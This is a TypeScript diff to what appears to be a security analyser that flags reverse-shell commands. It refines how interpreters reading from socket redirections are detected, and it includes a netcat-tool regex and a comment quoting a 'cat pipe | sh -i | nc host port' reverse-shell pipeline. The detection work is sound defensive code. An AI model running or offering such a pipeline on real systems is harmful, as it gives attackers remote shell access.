@@ -1,6 +1,7 @@
 import type { Call } from "../../command/call.ts";
-import { hasOption, optionValues, parseOptions } from "../../command/options.ts";
+import { optionValues, parseOptions } from "../../command/options.ts";
 import { isInterpreter, isShell, plainName, runsWhat } from "../interpreters.ts";
+import { fullSource, redirectionsOf } from "../wrappers.ts";
 import { isNetworkAddress, isSocketPath } from "./origins.ts";
 
 const NETCATS = /^(?:nc|ncat|netcat|nc\.(?:openbsd|traditional)|nc6|pwncat)$/;
@@ -39,9 +40,9 @@ function connectsShell(call: Call): boolean {
   if (!isInterpreter(call.program)) return false;
   const runs = runsWhat(call);
   if (runs.kind !== "input") return false;
-  const sockets = call.redirections.filter(({ target }) => isSocketPath(target.text));
-  const isInteractive = isShell(call.program) && hasOption(parseOptions(call.args), "-i");
-  return sockets.some(({ kind }) => kind === "read" || isInteractive || /[0<]>?&|<>/.test(call.source));
+  const sockets = redirectionsOf(call).filter(({ target }) => isSocketPath(target.text));
+  const readsOutput = /0[<>]?>?&|<&|<>/.test(fullSource(call));
+  return sockets.some(({ kind, descriptor }) => readsOutput || (kind === "read" && (descriptor ?? 0) === 0));
 }
 
 /** `cat pipe | sh -i 2>&1 | nc host port > pipe`: what a shell prints that itself reads from a pipe goes to the network. */
